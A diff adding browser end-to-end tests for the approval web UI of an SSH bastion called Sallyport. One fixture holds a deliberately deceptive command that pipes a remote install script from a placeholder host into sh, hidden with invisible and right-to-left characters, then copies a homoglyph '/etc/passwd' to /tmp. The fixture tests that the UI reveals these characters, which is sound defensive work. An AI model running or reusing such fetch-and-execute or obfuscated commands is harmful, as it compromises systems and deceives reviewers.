@@ -1,0 +1,433 @@
+/**
+ * The pages in a real Chromium against a listening server: they work under the strict Content-Security-Policy, change
+ * without a reload, and are kept as pictures in `.test/screenshots/` for people to look at.
+ */
+import { mkdirSync, readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { gzipSync } from 'node:zlib'
+import { type Browser, type BrowserContextOptions, chromium, type Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import type { Waiting } from '../../src/approval/desk.ts'
+import { systemClock } from '../../src/core/clock.ts'
+import type { SessionRecord } from '../../src/core/session.ts'
+import { type RunningWeb, startWeb } from '../../src/web/server.ts'
+import { EXAMPLE_CAST } from '../web/example-cast.ts'
+import { newWorld, PEOPLE, type PersonName, type World } from '../web/world.ts'
+
+const PICTURES = join(import.meta.dirname, '../../.test/screenshots')
+const CHROMIUM_ARGS = [
+  '--headless',
+  '--no-sandbox',
+  '--disable-gpu',
+  '--disable-quic',
+  '--no-first-run',
+  '--disable-background-networking',
+  '--disable-component-update',
+  '--disable-sync',
+]
+const DESK: BrowserContextOptions = { viewport: { width: 1280, height: 860 }, colorScheme: 'light' }
+const DARK: BrowserContextOptions = { ...DESK, colorScheme: 'dark' }
+const PHONE: BrowserContextOptions = {
+  viewport: { width: 390, height: 844 },
+  deviceScaleFactor: 2,
+  hasTouch: true,
+  isMobile: true,
+  colorScheme: 'light',
+}
+const LOOKS = { light: DESK, dark: DARK, phone: PHONE } as const
+
+let browser: Browser
+let world: World
+let web: RunningWeb
+let address: string
+/** Anything a page complains about: a refused script or style, a failed request, an exception. */
+let complaints: string[]
+
+beforeAll(async () => {
+  mkdirSync(PICTURES, { recursive: true })
+  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS })
+})
+
+afterAll(() => browser.close())
+
+beforeEach(async () => {
+  complaints = []
+  world = await newWorld(systemClock)
+  web = await startWeb(world.services, { host: '127.0.0.1', port: 0 })
+  // The port is known only now, and everything that compares origins asks for it anew.
+  world.services.publicUrl.port = String(web.port)
+  address = world.services.publicUrl.origin
+})
+
+afterEach(async () => {
+  for (const context of browser.contexts()) await context.close()
+  await web.close()
+  await world.close()
+})
+
+async function open(who: PersonName, path: string, look: BrowserContextOptions = DESK): Promise<Page> {
+  const context = await browser.newContext(look)
+  const page = await context.newPage()
+  page.on('console', (message) => {
+    if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text())
+  })
+  page.on('pageerror', (error) => complaints.push(String(error)))
+  page.on('request', (request) => {
+    if (!request.url().startsWith(address)) complaints.push(`asks another host: ${request.url()}`)
+  })
+  world.provider.who = who
+  await page.goto(`${address}/auth/start?return=${encodeURIComponent(path)}`)
+  await page.waitForSelector('.live-live')
+  return page
+}
+
+async function picture(page: Page, name: string): Promise<void> {
+  await page.screenshot({ path: join(PICTURES, `${name}.png`), animations: 'disabled' })
+}
+
+const SCREEN = [
+  'deploy@web-1:/srv/data$ ls -l',
+  'total 12',
+  'drwxr-xr-x 2 deploy deploy 4096 Nov 24 20:10 current',
+  'drwxr-xr-x 2 deploy deploy 4096 Nov 19 09:12 old',
+  '-rw-r--r-- 1 deploy deploy  812 Nov 24 20:31 orders.csv',
+  'deploy@web-1:/srv/data$ rm -rf /srv/data/old',
+]
+
+async function aliceAsks(): Promise<{ session: SessionRecord; waiting: Waiting }> {
+  const session = await world.openSession(PEOPLE.alice, { screen: SCREEN })
+  return { session, waiting: await world.hold(session, { screen: SCREEN }) }
+}
+
+/** Several requests of several people, one of them written to deceive. */
+async function busyDay(): Promise<Waiting> {
+  const bobs = await world.openSession(PEOPLE.bob, { target: 'web-2' })
+  const text = 'sudo systemctl restart nginx'
+  await world.hold(bobs, {
+    text,
+    analysis: {
+      effects: ['privilege', 'write'],
+      objects: [],
+      commands: [
+        {
+          text,
+          name: 'sudo',
+          start: 0,
+          end: text.length,
+          effects: ['privilege'],
+          objects: [],
+          because: 'sudo runs what follows as root',
+        },
+      ],
+    },
+  })
+  const daves = await world.openSession(PEOPLE.dave, { kind: 'exec', address: '10.20.3.7' })
+  const pipe = 'curl -s https://get.example.test/install.sh | sh\u200b -s -- --\u202eetomer\u202c\ncp /etc/pаsswd /tmp/'
+  await world.hold(daves, {
+    text: pipe,
+    action: { kind: 'exec', assurance: 'inferred' },
+    analysis: {
+      effects: ['transfer', 'opaque', 'escape', 'read', 'write'],
+      objects: [{ kind: 'url', value: 'https://get.example.test/install.sh' }],
+      commands: [
+        {
+          text: 'curl -s https://get.example.test/install.sh',
+          name: 'curl',
+          start: 0,
+          end: 43,
+          effects: ['transfer'],
+          objects: [{ kind: 'url', value: 'https://get.example.test/install.sh' }],
+          because: 'curl fetches from another host',
+        },
+        {
+          text: 'sh\u200b -s -- --\u202eetomer\u202c',
+          name: undefined,
+          start: 46,
+          end: 66,
+          effects: ['opaque', 'escape'],
+          objects: [],
+          because: 'the name of the command holds a character that no command has',
+        },
+        {
+          text: 'cp /etc/pаsswd /tmp/',
+          name: 'cp',
+          start: 67,
+          end: 87,
+          effects: ['read', 'write'],
+          objects: [
+            { kind: 'path', value: '/etc/pаsswd' },
+            { kind: 'path', value: '/tmp/' },
+          ],
+          because: 'cp copies files',
+        },
+      ],
+    },
+  })
+  const decided = await world.hold(daves, { text: 'rm /var/log/nginx/error.log.1' })
+  await world.desk.decide(decided.hold.id, PEOPLE.erin, {
+    kind: 'reject',
+    reason: 'Logrotate does this; wait until tonight.',
+  })
+  const { waiting } = await aliceAsks()
+  return waiting
+}
+
+describe('the inbox', () => {
+  it.each(Object.entries(LOOKS))('is drawn without a complaint (%s)', async (name, look) => {
+    await busyDay()
+    const page = await open('bob', '/', look)
+    await page.getByRole('heading', { name: /Yours to decide/ }).waitFor()
+    expect(await page.title()).toBe('(2) Inbox · Sallyport')
+    await picture(page, `inbox-${name}`)
+    expect(complaints).toEqual([])
+  })
+
+  it('shows a new hold, and its end, without a reload', async () => {
+    const page = await open('bob', '/')
+    await page.getByText('Nothing waits').waitFor()
+    await picture(page, 'inbox-empty')
+    const { waiting } = await aliceAsks()
+    await page.getByRole('link', { name: 'rm -rf /srv/data/old' }).waitFor({ timeout: 2000 })
+    waiting.withdraw('pressed Ctrl-C')
+    await page.getByText('withdrawn', { exact: true }).waitFor({ timeout: 2000 })
+    expect(complaints).toEqual([])
+  })
+
+  it('says that it is no longer live, and is live again after the bastion was away', async () => {
+    const page = await open('bob', '/')
+    await page.context().setOffline(true)
+    await web.close()
+    await page.getByText('Not live').waitFor()
+    await page.context().setOffline(false)
+    web = await startWeb(world.services, { host: '127.0.0.1', port: Number(world.services.publicUrl.port) })
+    // Restarting signs everybody out, and the page says so instead of showing what is no longer true.
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
+    await picture(page, 'signed-out')
+  })
+})
+
+describe('a hold', () => {
+  it.each(Object.entries(LOOKS))('is drawn without a complaint (%s)', async (name, look) => {
+    const waiting = await busyDay()
+    const page = await open('bob', `/holds/${waiting.hold.id}`, look)
+    await page.getByRole('button', { name: /Approve/ }).waitFor()
+    await picture(page, `hold-${name}`)
+    expect(complaints).toEqual([])
+  })
+
+  it('fault 39: draws what a terminal would hide or obey', async () => {
+    await busyDay()
+    const page = await open('bob', '/')
+    await page.getByRole('link', { name: /curl/ }).click()
+    const exact = page.getByRole('region', { name: 'The exact text' })
+    await exact.waitFor()
+    expect(await exact.textContent()).toContain('sh⟨200B⟩ -s -- --⟨202E⟩etomer⟨202C⟩⏎')
+    await page.getByText('characters that a screen does not show').waitFor()
+    await picture(page, 'hold-deceiving')
+    expect(complaints).toEqual([])
+  })
+
+  it('is approved with the keyboard: the key only opens the question', async () => {
+    const { waiting } = await aliceAsks()
+    const page = await open('bob', `/holds/${waiting.hold.id}`)
+    await page.getByRole('button', { name: /Approve/ }).waitFor()
+    await page.keyboard.press('a')
+    await page.getByRole('button', { name: 'Approve this command' }).waitFor()
+    expect(await page.evaluate('document.activeElement.tagName')).toBe('TEXTAREA')
+    await page.keyboard.type('space is needed')
+    await picture(page, 'hold-confirm')
+    expect((await world.desk.find(waiting.hold.id)).state.kind).toBe('pending')
+    await page.keyboard.press('Control+Enter')
+    await expect(waiting.outcome).resolves.toMatchObject({ kind: 'cleared' })
+    await page.getByText('It is about to run.').waitFor()
+    await world.desk.running(waiting.hold.id)
+    await page.getByText('It is running.').waitFor({ timeout: 2000 })
+    await world.desk.finished(waiting.hold.id, 0)
+    await page.getByText('ended with exit status 0').waitFor({ timeout: 2000 })
+    await picture(page, 'hold-done')
+    expect(complaints).toEqual([])
+  })
+
+  it('is rejected with a reason on a phone', async () => {
+    const { waiting } = await aliceAsks()
+    const page = await open('bob', `/holds/${waiting.hold.id}`, PHONE)
+    await page.getByRole('button', { name: /Reject/ }).tap()
+    await page.getByRole('button', { name: 'Reject this command' }).tap()
+    // The browser itself asks for the reason; nothing was sent.
+    expect((await world.desk.find(waiting.hold.id)).state.kind).toBe('pending')
+    await page.getByLabel(/Reason/).fill('Not in working hours.')
+    await picture(page, 'hold-reject-phone')
+    await page.getByRole('button', { name: 'Reject this command' }).tap()
+    await expect(waiting.outcome).resolves.toMatchObject({ kind: 'refused', how: 'rejected' })
+    await page.getByText('Rejected by Bob Bell: Not in working hours.').waitFor()
+    expect(complaints).toEqual([])
+  })
+
+  it('fault 43: offers its requester no buttons, and says why', async () => {
+    const { waiting } = await aliceAsks()
+    const page = await open('alice', `/holds/${waiting.hold.id}`)
+    await page.getByText('You asked for this command yourself; somebody else has to decide it.').waitFor()
+    expect(await page.getByRole('button').count()).toBe(0)
+    await picture(page, 'hold-own')
+  })
+})
+
+describe('a session', () => {
+  async function endedSession(): Promise<SessionRecord> {
+    const startedAt = new Date(Date.now() - 400_000)
+    const session = await world.openSession(PEOPLE.alice, {
+      startedAt,
+      endedAt: new Date(Date.now() - 310_000),
+      exitStatus: 0,
+    })
+    const waiting = await world.hold(session, { screen: SCREEN })
+    await world.desk.decide(waiting.hold.id, PEOPLE.bob, { kind: 'approve', reason: 'space is needed for the release' })
+    await world.record(session, EXAMPLE_CAST)
+    return session
+  }
+
+  it.each(Object.entries(LOOKS))('plays its recording without a complaint (%s)', async (name, look) => {
+    const session = await endedSession()
+    // A dark page is played at a marker, so that more than the poster is seen to work.
+    const page = await open('carol', `/sessions/${session.id}`, look)
+    await page.locator('.ap-player').waitFor()
+    await page.getByRole('button', { name: /approved by Bob Bell/ }).click()
+    await expect.poll(() => page.locator('.ap-term').textContent()).toContain('approved by Bob Bell: space is needed')
+    await picture(page, `session-${name}`)
+    expect(complaints).toEqual([])
+    expect((await world.events('recording.viewed')).map(({ actorName }) => actorName)).toEqual(['Carol Cole'])
+  })
+
+  it('is loaded as a document of its own, whose policy alone allows what the player needs', async () => {
+    const session = await endedSession()
+    const page = await open('carol', '/sessions')
+    await picture(page, 'sessions')
+    const policies: string[] = []
+    page.on('response', async (response) => {
+      if (response.request().isNavigationRequest()) policies.push(response.headers()['content-security-policy'] ?? '')
+    })
+    await page.locator(`a[href="/sessions/${session.id}"]`).click()
+    await page.locator('.ap-player').waitFor()
+    await page.getByRole('link', { name: 'Inbox' }).click()
+    await page.getByRole('heading', { name: 'Inbox' }).waitFor()
+    expect(policies).toHaveLength(2)
+    expect(policies[0]).toContain("'wasm-unsafe-eval'")
+    expect(policies[1]).not.toContain('wasm')
+    expect(complaints).toEqual([])
+  })
+
+  it('that is live can be reloaded and ended by its owner', async () => {
+    const session = await world.openSession(PEOPLE.alice)
+    await world.record(session, EXAMPLE_CAST.split('\n').slice(0, 6).join('\n'))
+    const page = await open('alice', `/sessions/${session.id}`)
+    await page.locator('.ap-player').waitFor()
+    await page.getByRole('button', { name: 'Load what came since' }).click()
+    await page.getByRole('button', { name: 'End this session…' }).click()
+    await picture(page, 'session-live')
+    await page.getByRole('button', { name: 'End it now' }).click()
+    await page.getByText('ended by the bastion').waitFor()
+    expect(world.endings.get(session.id)).toContain('Alice Ames')
+    expect(complaints).toEqual([])
+  })
+})
+
+describe('letting a terminal in', () => {
+  it.each(Object.entries(LOOKS))('takes the code and then the words (%s)', async (name, look) => {
+    const { attempt, confirm } = await world.login('WDJB-MJHT')
+    const page = await open('alice', '/d/WDJB-MJHT', look)
+    await page.getByRole('link', { name: 'Confirm the code' }).waitFor()
+    await picture(page, `consent-code-${name}`)
+    await confirm(PEOPLE.alice)
+    await page.getByText('Pick the words your terminal shows').waitFor({ timeout: 3000 })
+    await picture(page, `consent-words-${name}`)
+    await page.getByRole('button', { name: attempt.words }).click()
+    await page.getByText('Your terminal goes on').waitFor()
+    await expect(attempt.outcome).resolves.toMatchObject({ kind: 'approved' })
+    await picture(page, `consent-done-${name}`)
+    expect(complaints).toEqual([])
+  })
+
+  it('fault 7: warns when the terminal is somewhere else than the browser', async () => {
+    const { attempt } = await world.login('WDJB-MJHT', { address: '203.0.113.9', fingerprint: undefined })
+    const page = await open('alice', '/d/WDJB-MJHT')
+    await page.getByText('The terminal is at 203.0.113.9, this browser at 127.0.0.1.').waitFor()
+    await picture(page, 'consent-elsewhere')
+    await page.getByRole('button', { name: 'This was not me' }).click()
+    await page.getByText('The terminal was refused').waitFor()
+    await expect(attempt.outcome).resolves.toMatchObject({ kind: 'denied' })
+    expect((await world.events('login.denied'))[0]?.detail).toMatchObject({ notMe: true })
+  })
+
+  it('refuses when somebody else confirmed the code, and says so for a code that is gone', async () => {
+    const { confirm } = await world.login('WDJB-MJHT')
+    await confirm(PEOPLE.dave)
+    const page = await open('alice', '/d/WDJB-MJHT')
+    await page.getByText('Somebody else confirmed this code').waitFor()
+    await picture(page, 'consent-other-person')
+    await page.goto(`${address}/d`)
+    await page.getByLabel('The code that your terminal shows').fill('bcdf-ghjk')
+    await picture(page, 'consent-type')
+    await page.keyboard.press('Enter')
+    await page.getByText('This code is not waiting').waitFor()
+  })
+
+  it('signs a stranger in first, and comes back to the code', async () => {
+    await world.login('WDJB-MJHT')
+    world.provider.who = 'alice'
+    const page = await (await browser.newContext(DESK)).newPage()
+    await page.goto(`${address}/d/WDJB-MJHT`)
+    await page.getByRole('link', { name: 'Confirm the code' }).waitFor()
+    expect(new URL(page.url()).pathname).toBe('/d/WDJB-MJHT')
+  })
+})
+
+describe('the other pages', () => {
+  it('need little: all scripts together are under 150 kB compressed, and the player comes only where it is used', async () => {
+    const folder = join(import.meta.dirname, '../../src/web/ui/dist/assets')
+    const scripts = readdirSync(folder).filter((name) => name.endsWith('.js'))
+    const sizes = scripts.map((name) => gzipSync(readFileSync(join(folder, name))).length)
+    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(150_000)
+    const page = await open('bob', '/')
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    await page.reload()
+    await page.waitForSelector('.live-live')
+    expect(asked.filter((url) => url.endsWith('.js'))).toHaveLength(1)
+  })
+
+  it('show a person their keys, and revoke one', async () => {
+    await world.bindKey(PEOPLE.alice, { lastUsedAt: new Date() })
+    await world.bindKey(PEOPLE.alice, { fingerprint: `SHA256:${'x'.repeat(43)}`, revokedAt: new Date() })
+    await world.openSession(PEOPLE.alice)
+    const page = await open('alice', '/me')
+    await page.getByRole('button', { name: 'Revoke…' }).click()
+    await picture(page, 'me')
+    await page.getByRole('button', { name: 'Revoke this key' }).click()
+    await expect.poll(() => page.getByText('revoked', { exact: true }).count()).toBe(2)
+    await page.getByRole('button', { name: 'Sign out' }).click()
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
+  })
+
+  it('show an auditor the log, older pages too', async () => {
+    const session = await world.openSession(PEOPLE.alice)
+    for (let index = 0; index < 60; index += 1) await world.hold(session, { text: `rm -rf /srv/data/old/${index}` })
+    await busyDay()
+    for (let index = 0; index < 60; index += 1) await world.hold(session, { text: `rm /srv/data/${index}` })
+    const page = await open('carol', '/audit')
+    await page.getByRole('table').waitFor()
+    await picture(page, 'audit')
+    await page.getByRole('button', { name: 'Older events' }).click()
+    await page.getByText('This is the beginning of the log.').waitFor()
+    expect(complaints).toEqual([])
+  })
+
+  it('work from the keyboard: the skip link is first, and every page names itself to who cannot see it', async () => {
+    const page = await open('carol', '/')
+    await page.keyboard.press('Tab')
+    expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the content')
+    await page.getByRole('link', { name: 'Audit' }).click()
+    await page.getByRole('table').waitFor()
+    expect(await page.evaluate('document.activeElement.tagName')).toBe('H1')
+    expect(await page.title()).toBe('Audit · Sallyport')
+  })
+})
